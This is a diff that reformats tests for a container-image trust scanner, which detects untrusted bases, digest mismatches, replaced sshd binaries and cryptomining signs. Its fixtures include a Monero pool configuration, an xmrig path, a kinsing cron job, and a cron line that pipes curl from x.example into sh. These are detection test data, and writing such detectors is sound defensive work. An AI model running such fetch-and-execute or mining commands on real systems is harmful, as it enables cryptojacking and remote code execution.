@@ -19,7 +19,9 @@ async function judge(analyzer: string, facts: readonly Fact[], configuration: ob
     opened: { target: { kind: "image", ref: "app:1" } },
   } as unknown as Look;
   const outcome = await trust.find(({ id }) => id === analyzer)?.analyze(look);
-  return (outcome?.findings ?? []).map(({ rule, severity, title }) => `${rule.replace("trust/", "")} ${severity}: ${title}`);
+  return (outcome?.findings ?? []).map(
+    ({ rule, severity, title }) => `${rule.replace("trust/", "")} ${severity}: ${title}`,
+  );
 }
 
 function image(more: Partial<ImageFact> = {}, labels: Record<string, string> = {}): ImageFact {
@@ -33,7 +35,17 @@ function image(more: Partial<ImageFact> = {}, labels: Record<string, string> = {
     platform: "linux/amd64",
     annotations: {},
     layers: ["sha256:base1", "sha256:base2", "sha256:own"].map((diffId, index) => ({ index, diffId, size: 1 })),
-    configuration: { user: "", environment: [], entrypoint: [], command: [], exposedPorts: [], volumes: [], labels, workingDirectory: "", history: [] },
+    configuration: {
+      user: "",
+      environment: [],
+      entrypoint: [],
+      command: [],
+      exposedPorts: [],
+      volumes: [],
+      labels,
+      workingDirectory: "",
+      history: [],
+    },
     ...more,
   };
 }
@@ -44,11 +56,17 @@ const claim = { "org.opencontainers.image.base.digest": "sha256:basedigest" };
 
 describe("base and origin", () => {
   test("descent is proven by layers, whatever a label says", async () => {
-    expect(await judge("trust/image", [image()], standard([base]))).toEqual(["moving-tag low: registry.example.com/app:1 is named by a tag"]);
+    expect(await judge("trust/image", [image()], standard([base]))).toEqual([
+      "moving-tag low: registry.example.com/app:1 is named by a tag",
+    ]);
     const squashed = image({ layers: [{ index: 0, diffId: "sha256:base1", size: 1 }] }, claim);
-    expect((await judge("trust/image", [squashed], standard([base])))[1]).toBe("unknown-base critical: the image claims a base whose layers it does not have");
+    expect((await judge("trust/image", [squashed], standard([base])))[1]).toBe(
+      "unknown-base critical: the image claims a base whose layers it does not have",
+    );
     const other = image({ layers: [{ index: 0, diffId: "sha256:else", size: 1 }] });
-    expect((await judge("trust/image", [other], standard([base])))[1]).toBe("unknown-base high: the image descends from none of the declared bases");
+    expect((await judge("trust/image", [other], standard([base])))[1]).toBe(
+      "unknown-base high: the image descends from none of the declared bases",
+    );
   });
 
   test.each([
@@ -61,11 +79,24 @@ describe("base and origin", () => {
   });
 
   test("an archive has no registry and no tag to move", async () => {
-    expect(await judge("trust/image", [image({ reference: "oci:dir", registry: "" })], standard([], ["registry.example.com"]))).toEqual([]);
+    expect(
+      await judge(
+        "trust/image",
+        [image({ reference: "oci:dir", registry: "" })],
+        standard([], ["registry.example.com"]),
+      ),
+    ).toEqual([]);
   });
 
   test("bytes with another digest are the gravest of all", async () => {
-    const mismatch = { kind: "digest-mismatch", at: { layer: "sha256:a" }, subject: { layer: "sha256:a" }, of: "layer sha256:a", declared: "sha256:a", found: "sha256:b" };
+    const mismatch = {
+      kind: "digest-mismatch",
+      at: { layer: "sha256:a" },
+      subject: { layer: "sha256:a" },
+      of: "layer sha256:a",
+      declared: "sha256:a",
+      found: "sha256:b",
+    };
     expect((await judge("trust/image", [mismatch]))[0]).toContain("digest-mismatch critical");
   });
 });
@@ -107,40 +138,73 @@ describe("mining", () => {
     expect(moneroAddressesIn(`user: "${wallet}", x${wallet}x`)).toEqual([wallet]);
   });
 
-  const settings = JSON.stringify({ "donate-level": 1, pools: [{ url: "stratum+tcp://xmr.nanopool.org:14444", user: address("b") }] });
+  const settings = JSON.stringify({
+    "donate-level": 1,
+    pools: [{ url: "stratum+tcp://xmr.nanopool.org:14444", user: address("b") }],
+  });
 
   test("settings of a miner are an alert, a pool's name in a text is a note", async () => {
     const found = readWith(miningTexts, "opt/app/config.json", settings, { target: "image" });
-    expect(found.map((fact) => (fact as { sign?: string }).sign)).toEqual(["pool address", "pool name", "miner configuration", "wallet"]);
-    expect(await judge("trust/compromise", found)).toEqual(["mining-signs critical: 4 signs of mining: miner configuration, pool address, pool name, wallet"]);
+    expect(found.map((fact) => (fact as { sign?: string }).sign)).toEqual([
+      "pool address",
+      "pool name",
+      "miner configuration",
+      "wallet",
+    ]);
+    expect(await judge("trust/compromise", found)).toEqual([
+      "mining-signs critical: 4 signs of mining: miner configuration, pool address, pool name, wallet",
+    ]);
     const note = readWith(miningTexts, "usr/share/x.sh", "# see nanopool.org", { target: "image" });
-    expect(await judge("trust/compromise", note)).toEqual(["mining-signs low: one sign of mining: pool name (nanopool.org)"]);
+    expect(await judge("trust/compromise", note)).toEqual([
+      "mining-signs low: one sign of mining: pool name (nanopool.org)",
+    ]);
   });
 
   test("a program is known by its name and by the addresses in it, wherever the chunks part", () => {
-    const program = Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(5_000, 1), Buffer.from("stratum+ssl://pool.example:443"), Buffer.alloc(3_000, 1)]);
+    const program = Buffer.concat([
+      Buffer.from("\x7fELF"),
+      Buffer.alloc(5_000, 1),
+      Buffer.from("stratum+ssl://pool.example:443"),
+      Buffer.alloc(3_000, 1),
+    ]);
     for (const size of [100, 1_000, 5_010, 9_000]) {
-      const facts = readWith(miningPrograms, "usr/bin/.x/xmrig", program, { target: "image", mode: 0o755, chunk: size });
+      const facts = readWith(miningPrograms, "usr/bin/.x/xmrig", program, {
+        target: "image",
+        mode: 0o755,
+        chunk: size,
+      });
       expect(facts.map((fact) => (fact as { sign?: string }).sign).sort()).toEqual(["miner program", "pool address"]);
     }
   });
 
   test("a cron job that starts one, or fetches and runs something, is a sign", () => {
-    const sign = (path: string, text: string) => readWith(miningTexts, path, text, { target: "image" }).map((fact) => (fact as { shown?: string }).shown);
+    const sign = (path: string, text: string) =>
+      readWith(miningTexts, path, text, { target: "image" }).map((fact) => (fact as { shown?: string }).shown);
     expect(sign("etc/cron.d/update", "* * * * * root /tmp/.a/kinsing\n")).toEqual(["starts kinsing"]);
-    expect(sign("var/spool/cron/root", "* * * * * curl -s http://x.example/a | sh\n")).toEqual(["curl -s http://x.example/a | sh"]);
+    expect(sign("var/spool/cron/root", "* * * * * curl -s http://x.example/a | sh\n")).toEqual([
+      "curl -s http://x.example/a | sh",
+    ]);
     expect(sign("etc/cron.d/logrotate", "0 0 * * * root logrotate /etc/logrotate.conf\n")).toEqual([]);
   });
 
   test("source trees are not looked at: they may speak of mining", () => {
-    expect(miningTexts.wants({ path: "a/config.json", type: "file", size: 9, mode: 0o644 }, { target: "git", identityKey: "", explain: false })).toBe(false);
+    expect(
+      miningTexts.wants(
+        { path: "a/config.json", type: "file", size: 9, mode: 0o644 },
+        { target: "git", identityKey: "", explain: false },
+      ),
+    ).toBe(false);
   });
 
   test("never throws, whatever the bytes", () => {
     fc.assert(
       fc.property(fc.uint8Array({ maxLength: 2_000 }), (bytes) => {
         readWith(miningTexts, "etc/cron.d/x", Buffer.from(bytes), { target: "image" });
-        readWith(miningPrograms, "bin/x", Buffer.concat([Buffer.from("\x7fELF"), bytes]), { target: "image", mode: 0o755, chunk: 97 });
+        readWith(miningPrograms, "bin/x", Buffer.concat([Buffer.from("\x7fELF"), bytes]), {
+          target: "image",
+          mode: 0o755,
+          chunk: 97,
+        });
       }),
       { numRuns: 150 },
     );
@@ -150,23 +214,34 @@ describe("mining", () => {
 describe("programs against their packages", () => {
   const elf = Buffer.from("\x7fELF honest");
   const md5 = createHash("md5").update(elf).digest("hex");
-  const list = readWith(packagedHashes, "var/lib/dpkg/info/openssh-server.md5sums", `${md5}  usr/sbin/sshd\n${md5}  lib/x.so.1\n${"0".repeat(32)}  usr/share/doc/a\n`);
-  const program = (path: string, bytes: Buffer) => readWith(programHashes, path, bytes, { target: "image", mode: 0o755 });
+  const list = readWith(
+    packagedHashes,
+    "var/lib/dpkg/info/openssh-server.md5sums",
+    `${md5}  usr/sbin/sshd\n${md5}  lib/x.so.1\n${"0".repeat(32)}  usr/share/doc/a\n`,
+  );
+  const program = (path: string, bytes: Buffer) =>
+    readWith(programHashes, path, bytes, { target: "image", mode: 0o755 });
 
   test("what is as packaged says nothing, also over a merged /usr", async () => {
-    expect(await judge("trust/compromise", [...list, ...program("usr/sbin/sshd", elf), ...program("usr/lib/x.so.1", elf)])).toEqual([]);
+    expect(
+      await judge("trust/compromise", [...list, ...program("usr/sbin/sshd", elf), ...program("usr/lib/x.so.1", elf)]),
+    ).toEqual([]);
   });
 
   test("what was replaced is found", async () => {
     const replaced = program("usr/sbin/sshd", Buffer.from("\x7fELF other"));
-    expect(await judge("trust/compromise", [...list, ...replaced])).toEqual(["changed-package high: usr/sbin/sshd differs from the package openssh-server"]);
+    expect(await judge("trust/compromise", [...list, ...replaced])).toEqual([
+      "changed-package high: usr/sbin/sshd differs from the package openssh-server",
+    ]);
   });
 
   test("a diverted path is left to whoever took it, and a hidden file does not count", async () => {
     const replaced = program("usr/sbin/sshd", Buffer.from("\x7fELF other"));
     const diverted = readWith(diversions, "var/lib/dpkg/diversions", "/usr/sbin/sshd\n/usr/sbin/sshd.real\nother\n");
     expect(await judge("trust/compromise", [...list, ...replaced, ...diverted])).toEqual([]);
-    expect(await judge("trust/compromise", [...list, ...replaced.map((fact) => ({ ...fact, visible: false }))])).toEqual([]);
+    expect(
+      await judge("trust/compromise", [...list, ...replaced.map((fact) => ({ ...fact, visible: false }))]),
+    ).toEqual([]);
   });
 
   test("scripts are not hashed", () => {
